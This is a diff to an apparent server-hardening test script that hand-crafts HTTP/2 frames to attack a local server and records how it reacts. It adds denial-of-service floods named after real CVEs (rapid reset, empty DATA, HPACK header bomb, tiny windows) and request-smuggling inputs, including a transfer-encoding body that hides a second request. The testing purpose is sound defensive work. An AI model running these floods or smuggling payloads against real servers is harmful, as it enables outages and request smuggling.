@@ -1,7 +1,8 @@
 """HTTP/2 that no library would send: the frames are made by hand.
 
-Prints what became of the attack: statuses and resets by stream, whether the connection was told to go away, whether it was
-closed, and whether a well-behaved request on a new connection still works afterwards.
+Prints what became of each attack: statuses and resets by stream, whether the connection was told to go away, whether it was
+closed, and whether a well-behaved request on a new connection still works afterwards. A request is for `host` by `scheme`, or for a
+tunnel to `connect`.
 """
 
 import socket
@@ -10,25 +11,30 @@ import time
 from common import ARGUMENT, context, finish
 from hpack import Decoder, Encoder
 from hyperframe.frame import (
-    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
+    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
+    WindowUpdateFrame,
 )
 
-AUTHORITY = ARGUMENT["authority"]
-PATH = ARGUMENT["path"]
+AUTHORITY = ARGUMENT.get("host") or ARGUMENT["authority"]
+PATH = ARGUMENT.get("path", "/")
+METHOD, SCHEME, HOST = (":method", "GET"), (":scheme", ARGUMENT.get("scheme", "https")), (":authority", AUTHORITY)
+GOOD = [METHOD, SCHEME, HOST, (":path", PATH)]
+if "connect" in ARGUMENT:
+    GOOD = [(":method", "CONNECT"), (":authority", ARGUMENT["connect"])]
 
 
 class Peer:
     """One connection and what was seen on it."""
 
-    def __init__(self):
-        host, port = AUTHORITY.rsplit(":", 1)
+    def __init__(self, settings=None):
+        host, port = ARGUMENT["authority"].rsplit(":", 1)
         raw = socket.create_connection(("127.0.0.1", int(port)), timeout=10)
         raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.socket = context(["h2"]).wrap_socket(raw, server_hostname=host)
         self.encoder, self.decoder, self.buffer = Encoder(), Decoder(), b""
         self.statuses, self.resets, self.ended = {}, {}, set()
         self.goaway, self.closed = None, False
-        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
+        self.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0, settings=settings or {}).serialize())
 
     def write(self, data):
         try:
@@ -37,9 +43,9 @@ class Peer:
             self.closed = True
 
     def request(self, stream, headers=(), method="GET", path=PATH, body=None, pseudo=None):
-        pseudo = pseudo or [
-            (":method", method), (":scheme", "https"), (":authority", AUTHORITY), (":path", path),
-        ]
+        if method != "GET" or path != PATH:
+            pseudo = pseudo or [(":method", method), SCHEME, HOST, (":path", path)]
+        pseudo = pseudo or GOOD
         self.raw_headers(stream, [*pseudo, *headers], end=body is None)
         if body is not None:
             frame = DataFrame(stream, data=body)
@@ -52,6 +58,7 @@ class Peer:
         if end:
             frame.flags.add("END_STREAM")
         self.write(frame.serialize())
+
     def read(self, seconds, until=None):
         """Reads for a while, or until the streams named have all ended, or the peer hangs up."""
         deadline = time.monotonic() + seconds
@@ -101,7 +108,7 @@ def rapid_reset(peer):
     """CVE-2023-44487: streams opened and cancelled faster than they are worked off."""
     for number in range(5000):
         stream = 1 + 2 * number
-        peer.raw_headers(stream, [(":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY), (":path", PATH)])
+        peer.raw_headers(stream, GOOD)
         peer.write(RstStreamFrame(stream, error_code=8).serialize())
         if peer.closed:
             break
@@ -136,6 +143,56 @@ def ping_flood(peer):
     peer.read(2)
 
 
+def window_flood(peer):
+    for _ in range(20000):
+        peer.write(WindowUpdateFrame(0, window_increment=1).serialize())
+        if peer.closed:
+            break
+    peer.read(2)
+
+
+def priority_flood(peer):
+    """Streams that depend on each other and are never opened."""
+    for number in range(20000):
+        peer.write(PriorityFrame(1 + 2 * (number % 1000), depends_on=1 + 2 * ((number + 1) % 1000), stream_weight=7).serialize())
+        if peer.closed:
+            break
+    peer.read(2)
+
+
+def empty_data_flood(peer):
+    """CVE-2019-9518: frames that carry nothing and end nothing."""
+    if "connect" in ARGUMENT:
+        peer.raw_headers(1, GOOD, end=False)
+    else:
+        peer.raw_headers(1, [(":method", "POST"), SCHEME, HOST, (":path", PATH)], end=False)
+    for _ in range(20000):
+        peer.write(DataFrame(1, data=b"").serialize())
+        if peer.closed:
+            break
+    peer.read(2)
+
+
+def header_bomb(peer):
+    """CVE-2016-6581: one long field in the table, named a thousand times for a byte each."""
+    field = ("x-a", "y" * 3000)
+    peer.raw_headers(1, [*GOOD, field, *[field] * 1000])
+    peer.read(5, until={1})
+
+
+def tiny_windows(peer):
+    """CVE-2019-9511 and kin: many answers, of which a byte is taken at a time."""
+    for number in range(200):
+        peer.raw_headers(1 + 2 * number, GOOD)
+        peer.write(WindowUpdateFrame(1 + 2 * number, window_increment=1).serialize())
+        if peer.closed:
+            break
+    peer.read(3)
+
+
+tiny_windows.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
+
+
 def one(headers=(), **how):
     def attack(peer):
         peer.request(1, headers, **how)
@@ -147,12 +204,16 @@ def pseudo(*fields):
     return one(pseudo=list(fields))
 
 
-METHOD, SCHEME, HOST = (":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY)
 ATTACKS = {
     "rapid_reset": rapid_reset,
     "continuation_flood": continuation_flood,
     "settings_flood": settings_flood,
     "ping_flood": ping_flood,
+    "window_flood": window_flood,
+    "priority_flood": priority_flood,
+    "empty_data_flood": empty_data_flood,
+    "header_bomb": header_bomb,
+    "tiny_windows": tiny_windows,
     "connection_header": one([("connection", "close")]),
     "connection_named_header": one([("connection", "x-secret"), ("x-secret", "1")]),
     "transfer_encoding": one([("transfer-encoding", "chunked")], method="POST", body=b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
@@ -183,15 +244,22 @@ ATTACKS = {
     "absolute_path": pseudo(METHOD, SCHEME, HOST, (":path", "https://evil.test/up/x")),
 }
 
-if ARGUMENT["attack"] == "list":
-    finish(attacks=sorted(ATTACKS))
-else:
-    attacker = Peer()
-    ATTACKS[ARGUMENT["attack"]](attacker)
+
+
+def became(name):
+    attack = ATTACKS[name]
+    attacker = Peer(getattr(attack, "settings", None))
+    attack(attacker)
     after = Peer()
     after.request(1)
     after.read(10, until={1})
-    finish(
+    return dict(
         statuses=list(attacker.statuses.values()), resets=len(attacker.resets), goaway=attacker.goaway,
         closed=attacker.closed, after=after.statuses.get(1),
     )
+
+
+if ARGUMENT["attacks"] == "list":
+    finish(attacks=sorted(ATTACKS))
+else:
+    finish(**{name: became(name) for name in ARGUMENT["attacks"]})
